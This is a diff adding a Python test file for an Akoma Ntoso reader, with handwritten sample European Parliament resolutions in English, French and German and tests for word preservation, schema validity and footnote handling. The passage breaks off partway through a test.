@@ -1,0 +1,869 @@
+# ruff: noqa: E501 - the foreign documents below keep their long FRBR lines as written
+"""Reading Akoma Ntoso: foreign documents without losing a word, hostile XML, bad input.
+
+The four foreign documents below were written by hand for these tests, each in the
+style of another tool's output (not copied from any real file):
+
+- ``COBALT``: a Laws.Africa/Indigo (cobalt) style ``statement`` — a bare-``p`` preamble,
+  ``hcontainer name="crossheading"``, ``blockList``/``item`` nested two deep with
+  ``listIntroduction``/``listWrapUp``, ``term``, ``ref``, ``remark``, ``eol``;
+- ``OASIS``: a ``doc`` in the style of the OASIS examples (Bungeni) — ``docTitle``,
+  ``docProponent``, footnotes as ``noteRef`` to ``meta/notes/note``, citations and
+  recitals with ``intro``/``wrapUp``, recitals without ``num``, ``subparagraph``s, a
+  ``list`` with ``wrapUp``, ``conclusions`` with a signature, an annex with its own notes;
+- ``AKN4EU``: a French ``doc`` in the style of the EU's AKN4EU — ``coverPage``, a
+  ``longTitle`` of ``docStage``/``docDate``/``docPurpose``, ``mref``, ``inline``,
+  ``crossHeading``, ``division``, ``indent``s, ``authorialNote``s;
+- ``ARTICLES``: a German ``doc`` with chapters of ``article``s holding numbered
+  ``paragraph``s, a ``blockList`` with un-numbered items, repeated and missing footnote
+  markers, and a ``noteRef`` that points nowhere.
+
+Each is schema-valid Akoma Ntoso (checked below), so these tests are about reading,
+not about repairing.
+"""
+
+from __future__ import annotations
+
+import re
+import time
+from collections import Counter
+from pathlib import Path
+
+import pytest
+from lxml import etree
+
+from akn_ep import (
+    AknReadError,
+    FootnoteRef,
+    Heading,
+    Paragraph,
+    Point,
+    Recital,
+    Resolution,
+    from_akn,
+    to_akn,
+    validate,
+)
+from akn_ep.akn.safexml import MAX_INPUT_BYTES
+from akn_ep.model import iter_footnotes
+
+_WORD = re.compile(r"\w+")
+_TEXT_PARTS = ("coverPage", "preface", "preamble", "mainBody", "conclusions", "attachments")
+
+COBALT = """<?xml version="1.0" encoding="UTF-8"?>
+<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">
+  <statement name="resolution" contains="singleVersion">
+    <meta>
+      <identification source="#cobalt">
+        <FRBRWork>
+          <FRBRthis value="/akn/eu/statement/resolution/2019-11-28/environment/!main"/>
+          <FRBRuri value="/akn/eu/statement/resolution/2019-11-28/environment"/>
+          <FRBRalias value="Climate and environment emergency" name="title"/>
+          <FRBRdate date="2019-11-28" name="Generation"/>
+          <FRBRauthor href=""/>
+          <FRBRcountry value="eu"/>
+          <FRBRnumber value="environment"/>
+        </FRBRWork>
+        <FRBRExpression>
+          <FRBRthis value="/akn/eu/statement/resolution/2019-11-28/environment/eng@2019-11-28/!main"/>
+          <FRBRuri value="/akn/eu/statement/resolution/2019-11-28/environment/eng@2019-11-28"/>
+          <FRBRdate date="2019-11-28" name="Generation"/>
+          <FRBRauthor href=""/>
+          <FRBRlanguage language="eng"/>
+        </FRBRExpression>
+        <FRBRManifestation>
+          <FRBRthis value="/akn/eu/statement/resolution/2019-11-28/environment/eng@2019-11-28/!main"/>
+          <FRBRuri value="/akn/eu/statement/resolution/2019-11-28/environment/eng@2019-11-28"/>
+          <FRBRdate date="2019-11-28" name="Generation"/>
+          <FRBRauthor href=""/>
+        </FRBRManifestation>
+      </identification>
+      <references source="#cobalt">
+        <TLCOrganization eId="cobalt" href="https://github.com/laws-africa/cobalt" showAs="cobalt"/>
+        <TLCTerm eId="term-Union" href="/ontology/term/this.eng.Union" showAs="Union"/>
+      </references>
+    </meta>
+    <preface>
+      <p eId="preface__p_1"><docNumber>P9_TA(2019)0078</docNumber></p>
+      <longTitle eId="preface__longTitle_1">
+        <p>European Parliament resolution of 28 November 2019 on the <b>climate and environment emergency</b> (2019/2930(RSP))</p>
+      </longTitle>
+      <p eId="preface__p_2"><i>Wednesday, 27 November 2019 – Strasbourg</i></p>
+    </preface>
+    <preamble>
+      <p eId="preamble__p_1">The European Parliament,</p>
+      <p eId="preamble__p_2">having regard to the <ref href="/akn/un/act/treaty/2015/paris">Paris Agreement</ref> adopted at the twenty-first Conference of the Parties,</p>
+      <p eId="preamble__p_3">having regard to the Intergovernmental Panel report on global warming of <sup>1.5</sup> degrees<authorialNote marker="1" placement="bottom" eId="preamble__p_3__authorialNote_1"><p eId="preamble__p_3__authorialNote_1__p_1">Special report adopted in Incheon, October 2018.</p></authorialNote>,</p>
+      <p eId="preamble__p_4">whereas immediate and ambitious action is crucial to limiting warming;</p>
+      <p eId="preamble__p_5">whereas the <term refersTo="#term-Union" eId="preamble__p_5__trm_1">Union</term> has the tools to lead by example;</p>
+      <p eId="preamble__p_6">Noting the broad support of citizens, Parliament adopts the following:</p>
+    </preamble>
+    <mainBody>
+      <hcontainer eId="hcontainer_1" name="crossheading">
+        <heading>Declaring an emergency</heading>
+      </hcontainer>
+      <paragraph eId="para_1">
+        <num>1.</num>
+        <content>
+          <p eId="para_1__p_1">Declares a climate and environment emergency;</p>
+        </content>
+      </paragraph>
+      <paragraph eId="para_2">
+        <num>2.</num>
+        <content>
+          <p eId="para_2__p_1">Calls on the Commission:</p>
+          <blockList eId="para_2__list_1">
+            <listIntroduction>to ensure, before the summit,</listIntroduction>
+            <item eId="para_2__list_1__item_a">
+              <num>(a)</num>
+              <p eId="para_2__list_1__item_a__p_1">that all relevant legislative proposals are aligned with the target;</p>
+            </item>
+            <item eId="para_2__list_1__item_b">
+              <num>(b)</num>
+              <blockList eId="para_2__list_1__item_b__list_1">
+                <listIntroduction>that budgets account for</listIntroduction>
+                <item eId="para_2__list_1__item_b__list_1__item_i">
+                  <num>(i)</num>
+                  <p eId="para_2__list_1__item_b__list_1__item_i__p_1">mitigation, and</p>
+                </item>
+                <item eId="para_2__list_1__item_b__list_1__item_ii">
+                  <num>(ii)</num>
+                  <p eId="para_2__list_1__item_b__list_1__item_ii__p_1">adaptation;</p>
+                </item>
+              </blockList>
+            </item>
+            <listWrapUp>each with a yearly review</listWrapUp>
+          </blockList>
+          <p eId="para_2__p_2">and reports back to Parliament<eol/>by the end of the year;</p>
+        </content>
+      </paragraph>
+      <hcontainer eId="hcontainer_2" name="crossheading">
+        <heading>Final provisions</heading>
+      </hcontainer>
+      <paragraph eId="para_3">
+        <num>3.</num>
+        <content>
+          <p eId="para_3__p_1">Instructs its President to forward this resolution to the Council and the Commission.</p>
+          <p eId="para_3__p_2"><remark status="editorial">[Editorial note: adopted by 429 votes to 225.]</remark></p>
+        </content>
+      </paragraph>
+      <p eId="p_1">Done at Strasbourg.</p>
+    </mainBody>
+  </statement>
+</akomaNtoso>
+"""
+
+OASIS = """<?xml version="1.0" encoding="UTF-8"?>
+<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">
+  <doc name="resolution">
+    <meta>
+      <identification source="#bungeni">
+        <FRBRWork>
+          <FRBRthis value="/akn/eu/doc/resolution/2011-05-12/ta-7-2011-0236/!main"/>
+          <FRBRuri value="/akn/eu/doc/resolution/2011-05-12/ta-7-2011-0236"/>
+          <FRBRalias name="textsAdoptedNumber" value="P7_TA(2011)0236"/>
+          <FRBRdate date="2011-05-12" name="adoption"/>
+          <FRBRauthor href="#ep" as="#author"/>
+          <FRBRcountry value="eu"/>
+        </FRBRWork>
+        <FRBRExpression>
+          <FRBRthis value="/akn/eu/doc/resolution/2011-05-12/ta-7-2011-0236/eng@/!main"/>
+          <FRBRuri value="/akn/eu/doc/resolution/2011-05-12/ta-7-2011-0236/eng@"/>
+          <FRBRdate date="2011-05-12" name="adoption"/>
+          <FRBRauthor href="#ep" as="#author"/>
+          <FRBRlanguage language="eng"/>
+        </FRBRExpression>
+        <FRBRManifestation>
+          <FRBRthis value="/akn/eu/doc/resolution/2011-05-12/ta-7-2011-0236/eng@/!main.xml"/>
+          <FRBRuri value="/akn/eu/doc/resolution/2011-05-12/ta-7-2011-0236/eng@.akn"/>
+          <FRBRdate date="2011-05-14" name="XMLmarkup"/>
+          <FRBRauthor href="#bungeni" as="#editor"/>
+        </FRBRManifestation>
+      </identification>
+      <references source="#bungeni">
+        <TLCOrganization eId="ep" href="/ontology/organization/eu/ep" showAs="European Parliament"/>
+        <TLCOrganization eId="bungeni" href="/ontology/organization/bungeni" showAs="Bungeni"/>
+        <TLCRole eId="author" href="/ontology/role/author" showAs="Author"/>
+        <TLCRole eId="editor" href="/ontology/role/editor" showAs="Editor"/>
+      </references>
+      <notes source="#bungeni">
+        <note eId="n1"><p>OJ C 117 E, 6.5.2010, p. 180.</p></note>
+        <note eId="n2"><p>Texts adopted, P7_TA(2010)0490.</p><p>See also the annex of that resolution.</p></note>
+        <note eId="n3"><p>Figures of Eurostat, 2010 edition.</p></note>
+      </notes>
+    </meta>
+    <preface>
+      <p class="title"><docTitle>European Parliament resolution of 12 May 2011 on the cultural dimensions of the external actions of the Union</docTitle></p>
+      <p><docProponent refersTo="#ep">European Parliament</docProponent></p>
+      <p>Adopted on <docDate date="2011-05-12">Thursday 12 May 2011</docDate> in Strasbourg</p>
+      <p class="docNumber"><docNumber>A7-0112/2011</docNumber></p>
+    </preface>
+    <preamble>
+      <formula name="actingEntity"><p>The European Parliament,</p></formula>
+      <citations>
+        <intro><p>Recalling the following texts:</p></intro>
+        <citation><p>having regard to the UNESCO Convention on cultural diversity<noteRef marker="1" href="#n1"/>,</p></citation>
+        <citation><p>having regard to its resolution of 25 November 2010<noteRef marker="2" href="#n2"/>,</p></citation>
+      </citations>
+      <recitals>
+        <intro><p>Whereas:</p></intro>
+        <recital><p>whereas culture is an essential element of the external relations;</p></recital>
+        <recital><p>whereas cultural exchanges<noteRef marker="3" href="#n3"/> grew strongly;</p><p>whereas they remain uneven;</p></recital>
+        <wrapUp><p>all the above being considered together,</p></wrapUp>
+      </recitals>
+    </preamble>
+    <mainBody>
+      <paragraph eId="para_1">
+        <num>1.</num>
+        <subparagraph eId="para_1__subpara_1">
+          <content><p>Stresses that culture matters;</p></content>
+        </subparagraph>
+        <subparagraph eId="para_1__subpara_2">
+          <content><p>believes in particular that artists travel too little;</p></content>
+        </subparagraph>
+      </paragraph>
+      <paragraph eId="para_2">
+        <num>2.</num>
+        <list eId="para_2__list_1">
+          <intro><p>Calls on the High Representative:</p></intro>
+          <point eId="para_2__list_1__point_a"><num>(a)</num><content><p>to appoint cultural attachés;</p></content></point>
+          <point eId="para_2__list_1__point_b"><num>(b)</num><content><p>to set up a visa <i>fast track</i>;</p></content></point>
+          <wrapUp><p>without delay, and in cooperation with the Member States;</p></wrapUp>
+        </list>
+      </paragraph>
+      <paragraph eId="para_3">
+        <num>3.</num>
+        <content><p>Instructs its President to forward this resolution to the Council and the Commission.</p></content>
+      </paragraph>
+    </mainBody>
+    <conclusions>
+      <p>Strasbourg, 12 May 2011</p>
+      <blockContainer>
+        <p><signature><role refersTo="#author">The President</role> <person refersTo="#buzek">Jerzy Buzek</person></signature></p>
+      </blockContainer>
+    </conclusions>
+    <attachments>
+      <attachment eId="att_1">
+        <doc name="annex">
+          <meta>
+            <identification source="#bungeni">
+              <FRBRWork>
+                <FRBRthis value="/akn/eu/doc/resolution/2011-05-12/ta-7-2011-0236/!annex_1"/>
+                <FRBRuri value="/akn/eu/doc/resolution/2011-05-12/ta-7-2011-0236"/>
+                <FRBRdate date="2011-05-12" name="adoption"/>
+                <FRBRauthor href="#ep"/>
+                <FRBRcountry value="eu"/>
+              </FRBRWork>
+              <FRBRExpression>
+                <FRBRthis value="/akn/eu/doc/resolution/2011-05-12/ta-7-2011-0236/eng@/!annex_1"/>
+                <FRBRuri value="/akn/eu/doc/resolution/2011-05-12/ta-7-2011-0236/eng@"/>
+                <FRBRdate date="2011-05-12" name="adoption"/>
+                <FRBRauthor href="#ep"/>
+                <FRBRlanguage language="eng"/>
+              </FRBRExpression>
+              <FRBRManifestation>
+                <FRBRthis value="/akn/eu/doc/resolution/2011-05-12/ta-7-2011-0236/eng@/!annex_1.xml"/>
+                <FRBRuri value="/akn/eu/doc/resolution/2011-05-12/ta-7-2011-0236/eng@.akn"/>
+                <FRBRdate date="2011-05-14" name="XMLmarkup"/>
+                <FRBRauthor href="#bungeni"/>
+              </FRBRManifestation>
+            </identification>
+            <notes source="#bungeni">
+              <note eId="annex_n1"><p>Programme code CULT-2011.</p></note>
+            </notes>
+          </meta>
+          <preface>
+            <p class="title"><docTitle>ANNEX</docTitle></p>
+            <p class="subtitle">List of priority programmes</p>
+          </preface>
+          <mainBody>
+            <hcontainer name="part" eId="hcontainer_1">
+              <heading>Exchanges</heading>
+              <paragraph eId="annex_para_1"><num>1.</num><content><p>Erasmus for artists<noteRef marker="a" href="#annex_n1"/>.</p></content></paragraph>
+            </hcontainer>
+            <tblock><p>Mobility grants for young musicians.</p></tblock>
+          </mainBody>
+        </doc>
+      </attachment>
+    </attachments>
+  </doc>
+</akomaNtoso>
+"""
+
+AKN4EU = """<?xml version="1.0" encoding="UTF-8"?>
+<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">
+  <doc name="EP_RESOLUTION">
+    <meta>
+      <identification source="~COM">
+        <FRBRWork>
+          <FRBRthis value="http://data.europa.eu/eli/ep/res/2021/20/oj"/>
+          <FRBRuri value="http://data.europa.eu/eli/ep/res/2021/20"/>
+          <FRBRalias name="procedureReference" value="2020/2013(INI)"/>
+          <FRBRdate date="2021-01-20" name="adoption"/>
+          <FRBRauthor href="http://publications.europa.eu/resource/authority/corporate-body/EP"/>
+          <FRBRcountry value="EU"/>
+        </FRBRWork>
+        <FRBRExpression>
+          <FRBRthis value="http://data.europa.eu/eli/ep/res/2021/20/oj/fra"/>
+          <FRBRuri value="http://data.europa.eu/eli/ep/res/2021/20/oj/fra"/>
+          <FRBRdate date="2021-01-20" name="adoption"/>
+          <FRBRauthor href="http://publications.europa.eu/resource/authority/corporate-body/EP"/>
+          <FRBRlanguage language="fra"/>
+        </FRBRExpression>
+        <FRBRManifestation>
+          <FRBRthis value="http://data.europa.eu/eli/ep/res/2021/20/oj/fra/xml"/>
+          <FRBRuri value="http://data.europa.eu/eli/ep/res/2021/20/oj/fra/xml"/>
+          <FRBRdate date="2021-01-21" name="generation"/>
+          <FRBRauthor href="http://publications.europa.eu/resource/authority/corporate-body/PUBL"/>
+        </FRBRManifestation>
+      </identification>
+    </meta>
+    <coverPage>
+      <container name="procedureIdentifier"><p>Procédure <docNumber>2020/2013(INI)</docNumber></p></container>
+      <p>Parlement européen <docDate date="2021-01-20">2019-2024</docDate></p>
+    </coverPage>
+    <preface>
+      <longTitle>
+        <p><docStage>Résolution du Parlement européen</docStage> du <docDate date="2021-01-20">20 janvier 2021</docDate> <docPurpose>sur l'intelligence artificielle : questions relatives à l'interprétation du droit international</docPurpose> (<docNumber>2020/2013(INI)</docNumber>)</p>
+      </longTitle>
+    </preface>
+    <preamble>
+      <formula name="actingEntity"><p>Le Parlement européen,</p></formula>
+      <citations refersTo="~CITS">
+        <citation eId="cit_1"><p>vu le <ref href="http://data.europa.eu/eli/treaty/teu_2016/oj">traité sur l'Union européenne</ref>, et notamment son <mref><ref href="http://data.europa.eu/eli/treaty/teu_2016/art_2/oj">article 2</ref></mref>,</p></citation>
+        <citation eId="cit_2"><p>vu la charte des droits fondamentaux<authorialNote marker="1" placement="bottom" eId="cit_2__fn_1"><p>JO C 326 du 26.10.2012, p. 391.</p></authorialNote>,</p></citation>
+      </citations>
+      <recitals refersTo="~RECS">
+        <recital eId="rct_A"><num>A.</num><p>considérant que l'intelligence artificielle transforme les sociétés;</p></recital>
+        <recital eId="rct_B"><num>B.</num><p>considérant que des garanties<authorialNote marker="2" placement="bottom" eId="rct_B__fn_2"><p>Voir l'étude du <date date="2020-06-01">1er juin 2020</date>.</p></authorialNote> sont <inline name="emphasis">nécessaires</inline>;</p></recital>
+      </recitals>
+    </preamble>
+    <mainBody>
+      <chapter eId="chp_1">
+        <crossHeading eId="chp_1__crossheading_1">Cadre général</crossHeading>
+        <paragraph eId="chp_1__para_1">
+          <num>1.</num>
+          <content><p>estime que le droit international s'applique;</p></content>
+        </paragraph>
+      </chapter>
+      <division eId="dvs_1">
+        <num>I.</num>
+        <heading>Usages militaires</heading>
+        <paragraph eId="dvs_1__para_2">
+          <num>2.</num>
+          <list eId="dvs_1__para_2__list_1">
+            <intro><p>demande à la Commission :</p></intro>
+            <point eId="dvs_1__para_2__list_1__point_a">
+              <num>a)</num>
+              <list eId="dvs_1__para_2__list_1__point_a__list_1">
+                <intro><p>de proposer un cadre qui prévoie</p></intro>
+                <indent eId="dvs_1__para_2__list_1__point_a__list_1__indent_1"><num>—</num><content><p>un contrôle humain,</p></content></indent>
+                <indent eId="dvs_1__para_2__list_1__point_a__list_1__indent_2"><num>—</num><content><p>une traçabilité;</p></content></indent>
+              </list>
+            </point>
+            <point eId="dvs_1__para_2__list_1__point_b">
+              <num>b)</num>
+              <content><p>de publier un rapport annuel;</p></content>
+            </point>
+          </list>
+        </paragraph>
+        <paragraph eId="dvs_1__para_3">
+          <num>3.</num>
+          <content><p>charge son Président de transmettre la présente résolution au Conseil et à la Commission.</p></content>
+        </paragraph>
+      </division>
+    </mainBody>
+  </doc>
+</akomaNtoso>
+"""
+
+ARTICLES = """<?xml version="1.0" encoding="UTF-8"?>
+<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">
+  <doc name="decision">
+    <meta>
+      <identification source="#editor">
+        <FRBRWork>
+          <FRBRthis value="/akn/eu/doc/decision/2014-04-16/geschaeftsordnung/!main"/>
+          <FRBRuri value="/akn/eu/doc/decision/2014-04-16/geschaeftsordnung"/>
+          <FRBRdate date="2014-04-16" name="adoption"/>
+          <FRBRauthor href="#ep"/>
+          <FRBRcountry value="eu"/>
+        </FRBRWork>
+        <FRBRExpression>
+          <FRBRthis value="/akn/eu/doc/decision/2014-04-16/geschaeftsordnung/deu@/!main"/>
+          <FRBRuri value="/akn/eu/doc/decision/2014-04-16/geschaeftsordnung/deu@"/>
+          <FRBRdate date="2014-04-16" name="adoption"/>
+          <FRBRauthor href="#ep"/>
+          <FRBRlanguage language="deu"/>
+        </FRBRExpression>
+        <FRBRManifestation>
+          <FRBRthis value="/akn/eu/doc/decision/2014-04-16/geschaeftsordnung/deu@/!main.xml"/>
+          <FRBRuri value="/akn/eu/doc/decision/2014-04-16/geschaeftsordnung/deu@.xml"/>
+          <FRBRdate date="2014-04-20" name="markup"/>
+          <FRBRauthor href="#editor"/>
+        </FRBRManifestation>
+      </identification>
+    </meta>
+    <preface>
+      <longTitle><p>Beschluss des Europäischen Parlaments vom 16. April 2014 über die <b>Bürgerbeauftragte</b></p></longTitle>
+    </preface>
+    <preamble>
+      <formula name="actingEntity"><p>Das Europäische Parlament,</p></formula>
+      <citations>
+        <citation><p>gestützt auf den Vertrag, insbesondere auf Artikel 228<authorialNote marker="*" placement="bottom"><p>ABl. C 83 vom 30.3.2010.</p></authorialNote>,</p></citation>
+        <citation><p>gestützt auf die Satzung<authorialNote marker="*" placement="bottom"><p>ABl. L 113 vom 4.5.1994.</p></authorialNote><authorialNote placement="bottom"><p>Zuletzt geändert 2008.</p></authorialNote>,</p></citation>
+      </citations>
+      <recitals>
+        <recital><num>A.</num><p>in der Erwägung, dass Transparenz<noteRef href="#nirgends"/> wichtig ist;</p></recital>
+      </recitals>
+    </preamble>
+    <mainBody>
+      <chapter eId="chp_1">
+        <num>Kapitel I</num>
+        <heading>Allgemeine Bestimmungen</heading>
+        <article eId="art_1">
+          <num>Artikel 1</num>
+          <heading>Gegenstand</heading>
+          <paragraph eId="art_1__para_1">
+            <num>(1)</num>
+            <content><p>Dieser Beschluss regelt die Aufgaben.</p></content>
+          </paragraph>
+          <paragraph eId="art_1__para_2">
+            <num>(2)</num>
+            <subparagraph eId="art_1__para_2__subpara_1"><content><p>Er gilt ab sofort.</p></content></subparagraph>
+            <subparagraph eId="art_1__para_2__subpara_2"><content><p>Ausnahmen regelt<eol/>das Präsidium.</p></content></subparagraph>
+          </paragraph>
+        </article>
+      </chapter>
+      <chapter eId="chp_2">
+        <num>Kapitel II</num>
+        <heading>Verfahren</heading>
+        <article eId="art_2">
+          <num>Artikel 2</num>
+          <heading>Beschwerden</heading>
+          <content>
+            <p>Beschwerden werden geprüft, wenn sie</p>
+            <blockList eId="art_2__list_1">
+              <item eId="art_2__list_1__item_1"><num>1.</num><p>schriftlich und</p></item>
+              <item eId="art_2__list_1__item_2"><num>2.</num><p>fristgerecht eingehen, und zwar</p>
+                <blockList eId="art_2__list_1__item_2__list_1">
+                  <item eId="art_2__list_1__item_2__list_1__item_a"><p>per Post oder</p></item>
+                  <item eId="art_2__list_1__item_2__list_1__item_b"><p>elektronisch.</p></item>
+                </blockList>
+              </item>
+            </blockList>
+          </content>
+        </article>
+        <article eId="art_3">
+          <num>Artikel 3</num>
+          <heading>Inkrafttreten</heading>
+          <list eId="art_3__list_1">
+            <intro><p>Dieser Beschluss tritt in Kraft</p></intro>
+            <point eId="art_3__list_1__point_a"><num>a)</num><content><p>am Tag seiner Annahme</p></content></point>
+            <point eId="art_3__list_1__point_b"><num>b)</num><content><p>für alle Mitglieder</p></content></point>
+            <wrapUp><p>und wird im Amtsblatt veröffentlicht.</p></wrapUp>
+          </list>
+        </article>
+      </chapter>
+    </mainBody>
+  </doc>
+</akomaNtoso>
+"""
+
+FOREIGN = {"cobalt": COBALT, "oasis": OASIS, "akn4eu": AKN4EU, "articles": ARTICLES}
+
+
+# -- helpers ---------------------------------------------------------------------------
+
+
+def source_words(xml: str) -> Counter:
+    """Words of every text node of the document's text parts (not of its metadata)."""
+    root = etree.fromstring(xml.encode("utf-8"))
+    words: Counter = Counter()
+    for part in root[0]:
+        if etree.QName(part).localname in _TEXT_PARTS:
+            for text in part.itertext():
+                words.update(_WORD.findall(text))
+    return words
+
+
+def _inline_texts(text) -> list[str]:
+    out = []
+    for part in text or ():
+        if isinstance(part, FootnoteRef):
+            out.append(part.text)
+        else:
+            out.append(part)
+    return out
+
+
+def _point_texts(points) -> list[str]:
+    out = []
+    for p in points:
+        out.append(p.num)
+        out.extend(_inline_texts(p.text))
+        out.extend(_point_texts(p.points))
+    return out
+
+
+def model_texts(r: Resolution) -> list[str]:
+    """Every string a model holds (footnote bodies included), as separate texts."""
+    out = [r.title, r.formula, r.heading or "", r.procedure or "", r.ta_number or ""]
+    out += list(r.doc_refs) + [h.text for h in r.head_lines]
+    for c in r.citations:
+        out += _inline_texts(c.text)
+    for rec in r.recitals:
+        out += [rec.num, *_inline_texts(rec.text)]
+    for item in r.body:
+        paras = item.paragraphs if isinstance(item, Heading) else (item,)
+        if isinstance(item, Heading):
+            out += [item.text, item.num or ""]
+        for p in paras:
+            out += [p.num, *_inline_texts(p.text), *_point_texts(p.points)]
+    for a in r.annexes:
+        out.append(a.title)
+        for block in a.blocks:
+            out += _inline_texts(block)
+    for block in r.trailing:
+        out += _inline_texts(block)
+    return out
+
+
+def assert_no_word_lost(xml: str, r: Resolution) -> None:
+    got = Counter(w for t in model_texts(r) for w in _WORD.findall(t))
+    lost = source_words(xml) - got
+    assert not lost, f"words of the document missing from the model: {dict(lost)}"
+
+
+# -- foreign documents -----------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", FOREIGN)
+def test_foreign_document_is_schema_valid_akoma_ntoso(name: str) -> None:
+    assert validate(FOREIGN[name], profile=False) == []
+
+
+@pytest.mark.parametrize("name", FOREIGN)
+def test_foreign_document_keeps_every_word(name: str) -> None:
+    xml = FOREIGN[name]
+    assert_no_word_lost(xml, from_akn(xml))
+
+
+@pytest.mark.parametrize("name", ["cobalt", "oasis", "akn4eu"])
+def test_foreign_document_converts_to_a_valid_resolution(name: str) -> None:
+    r = from_akn(FOREIGN[name])
+    out = to_akn(r)
+    assert validate(out) == []
+    assert from_akn(out) == r
+
+
+def test_articles_convert_to_a_schema_valid_document() -> None:
+    """Articles keep their printed numbers ("Artikel 1"): the EP profile, which wants
+    paragraphs numbered 1…n, says so, and nothing else is wrong."""
+    r = from_akn(ARTICLES)
+    out = to_akn(r)
+    assert validate(out, profile=False) == []
+    assert {i.rule for i in validate(out)} == {"ep-paragraph-sequence"}
+    assert from_akn(out) == r
+
+
+def test_cobalt_style() -> None:
+    r = from_akn(COBALT)
+    assert r.lang == "en" and r.ta_number == "P9_TA(2019)0078"
+    assert r.procedure == "2019/2930(RSP)"  # printed at the end of the title
+    assert r.title.startswith("European Parliament resolution of 28 November 2019 on the climate")
+    # the bare-p preamble: formula, citations and recitals by their openers
+    assert r.formula == "The European Parliament,"
+    assert len(r.citations) == 2
+    assert r.citations[1].text[1] == FootnoteRef(
+        "1", "Special report adopted in Incheon, October 2018.")
+    assert [rec.num for rec in r.recitals] == ["A.", "B.", "C."]
+    # a crossheading hcontainer heads the paragraphs that follow it
+    assert [(h.text, [p.num for p in h.paragraphs]) for h in r.body] == [
+        ("Declaring an emergency", ["1.", "2."]), ("Final provisions", ["3."])]
+    para2 = r.body[0].paragraphs[1]
+    assert para2.text == ("Calls on the Commission: to ensure, before the summit,",)
+    assert [p.num for p in para2.points] == ["(a)", "(b)"]
+    assert [p.num for p in para2.points[1].points] == ["(i)", "(ii)"]
+    # the list's wrap-up and the text after the list join the item printed last
+    assert para2.points[1].points[1].text == (
+        "adaptation; each with a yearly review and reports back to Parliament by the end "
+        "of the year;",)
+    assert r.trailing == (("Done at Strasbourg.",),)
+    assert "'p' in mainBody kept as trailing text" in r.warnings
+
+
+def test_oasis_style_note_refs_and_intros() -> None:
+    r = from_akn(OASIS)
+    assert r.ta_number == "P7_TA(2011)0236"
+    notes = {n.marker: n.text for n in iter_footnotes(r)}
+    assert notes == {
+        "1": "OJ C 117 E, 6.5.2010, p. 180.",
+        "2": "Texts adopted, P7_TA(2010)0490. See also the annex of that resolution.",
+        "3": "Figures of Eurostat, 2010 edition.",
+        "a": "Programme code CULT-2011.",
+    }
+    # the footnote sits at its call, not at the end
+    assert r.recitals[1] == Recital("B.", (
+        "whereas cultural exchanges", FootnoteRef("3", "Figures of Eurostat, 2010 edition."),
+        " grew strongly; whereas they remain uneven;"))
+    assert r.body[0] == Paragraph(
+        "1.", "Stresses that culture matters; believes in particular that artists travel too "
+        "little;")
+    assert r.body[1].points[-1] == Point(
+        "(b)", "to set up a visa fast track; without delay, and in cooperation with the "
+        "Member States;")
+    assert r.trailing[:3] == (("Recalling the following texts:",), ("Whereas:",),
+                              ("all the above being considered together,",))
+    assert r.trailing[-1] == ("The President Jerzy Buzek",)
+    annex = r.annexes[0]
+    assert annex.title == "ANNEX"
+    assert annex.blocks[0] == ("List of priority programmes",)
+    assert annex.blocks[2][0] == "1. Erasmus for artists"
+
+
+def test_akn4eu_style() -> None:
+    r = from_akn(AKN4EU)
+    assert r.lang == "fr" and r.procedure == "2020/2013(INI)"
+    assert r.title == ("Résolution du Parlement européen du 20 janvier 2021 sur l'intelligence "
+                       "artificielle : questions relatives à l'interprétation du droit "
+                       "international (2020/2013(INI))")
+    assert r.citations[0].text == (
+        "vu le traité sur l'Union européenne, et notamment son article 2,",)
+    assert [h.text for h in r.body] == ["Cadre général", "Usages militaires"]
+    assert r.body[1].num == "I."
+    point_a = r.body[1].paragraphs[0].points[0]
+    assert point_a.num == "a)" and [p.num for p in point_a.points] == ["—", "—"]
+    assert not r.warnings
+
+
+def test_articles_and_footnote_markers() -> None:
+    r = from_akn(ARTICLES)
+    assert [h.num for h in r.body] == ["Kapitel I", "Kapitel II"]
+    art1 = r.body[0].paragraphs[0]
+    assert art1.num == "Artikel 1" and art1.text == ("Gegenstand",)
+    assert art1.points[1] == Point("(2)", "Er gilt ab sofort. Ausnahmen regelt das Präsidium.")
+    art2 = r.body[1].paragraphs[0]
+    assert [p.num for p in art2.points] == ["1.", "2."]
+    assert [p.num for p in art2.points[1].points] == ["–", "–"]
+    # markers stay unique document-wide: a repeated one gets a suffix, a missing one a number
+    assert [n.marker for n in iter_footnotes(r)] == ["*", "*-2", "3"]
+    assert any("used twice" in w for w in r.warnings)
+    assert any("'#nirgends' points at no note" in w for w in r.warnings)
+
+
+def _minimal(preamble: str = "", body: str = "<p>x</p>", extra: str = "") -> str:
+    return ('<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">'
+            '<doc name="resolution"><meta/><preface><longTitle><p>Resolution on X</p>'
+            f"</longTitle></preface><preamble>{preamble}</preamble><mainBody>{body}</mainBody>"
+            f"{extra}</doc></akomaNtoso>")
+
+
+def test_blocks_are_separated_and_inline_markup_is_not() -> None:
+    xml = _minimal(
+        preamble="<citations><citation><p>having regard to A</p><p>and B</p></citation>"
+                 "</citations><recitals><recital><p>whereas <i>un</i>fair<b>ness</b></p>"
+                 "<blockList><item><p>one</p></item><item><p>two</p></item></blockList>"
+                 "</recital></recitals>",
+        body="<paragraph><num>1.</num><content><p>Notes<eol/>this</p><tblock><p>first</p>"
+             "<p>second</p></tblock></content></paragraph>",
+        extra="<attachments><attachment><doc name='annex'><meta/><mainBody><tblock>"
+              "<p>alpha</p><p>beta</p></tblock></mainBody></doc></attachment></attachments>",
+    )
+    r = from_akn(xml)
+    assert r.citations[0].text == ("having regard to A and B",)
+    assert r.recitals[0].text == ("whereas unfairness one two",)
+    assert r.body[0].text == ("Notes this first second",)
+    assert r.annexes[0].blocks == (("alpha beta",),)
+
+
+def test_parts_of_other_document_types_are_kept() -> None:
+    xml = ('<akomaNtoso xmlns="http://docs.oasis-open.org/legaldocml/ns/akn/3.0">'
+           '<debateReport name="sitting"><meta/><preface><p class="title"><docTitle>Sitting'
+           '</docTitle></p></preface><debateBody><debateSection name="opening"><heading>'
+           "Opening</heading><speech by='#president'><from>The President</from><p>The "
+           "sitting is open.</p></speech></debateSection></debateBody></debateReport>"
+           "</akomaNtoso>")
